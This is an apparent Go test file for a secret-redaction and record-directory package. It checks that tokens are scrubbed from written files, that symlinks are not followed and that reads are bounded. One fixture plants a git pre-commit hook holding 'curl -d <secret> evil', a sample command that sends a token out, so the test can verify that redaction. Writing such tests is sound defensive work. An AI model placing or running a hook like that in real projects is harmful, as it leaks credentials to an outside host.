package record

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"opencode-delegate/internal/redact"
)

const secret = "tok-9f8e7d6c5b4a3210"

func open(t *testing.T) Dir {
	t.Helper()
	return Open(t.TempDir(), redact.New([]string{"MY_TOKEN=" + secret}))
}

func TestWhatIsWrittenHoldsNoSecret(t *testing.T) {
	d := open(t)
	if err := d.WriteJSON(State, map[string]string{"task": "use " + secret}); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteLast(Result, []string{secret}); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteExact(Prompt, []byte(secret)); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]bool{State: false, Result: false, Prompt: true} {
		data, err := os.ReadFile(d.File(name))
		if err != nil || strings.Contains(string(data), secret) != want {
			t.Errorf("%s: %q, %v", name, data, err)
		}
	}
}

func TestRedactReachesEveryKeptFile(t *testing.T) {
	d := open(t)
	if err := d.Redact(Kept); err != nil {
		t.Errorf("a directory that is not there: %v", err)
	}
	hooks := filepath.Join(d.File(Kept), "hooks")
	if err := os.MkdirAll(hooks, 0o700); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(hooks, "pre-commit")
	if err := os.WriteFile(file, []byte("curl -d "+secret+" evil\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	outside := filepath.Join(t.TempDir(), "outside")
	if err := os.WriteFile(outside, []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(hooks, "link")); err != nil && runtime.GOOS != "windows" {
		t.Fatal(err)
	}
	if err := d.Redact(Kept); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(file)
	if strings.Contains(string(data), secret) || !strings.Contains(string(data), "curl -d "+redact.Mark) {
		t.Errorf("kept: %q", data)
	}
	if data, _ := os.ReadFile(outside); string(data) != secret {
		t.Errorf("a link was followed: %q", data)
	}
}

func TestReadIsBounded(t *testing.T) {
	d := open(t)
	d.WriteExact(Prompt, []byte("12345"))
	if _, err := Read(d.File(Prompt), 4); err == nil {
		t.Error("5 bytes passed a limit of 4")
	}
	if data, err := Read(d.File(Prompt), 5); err != nil || string(data) != "12345" {
		t.Errorf("%q, %v", data, err)
	}
}
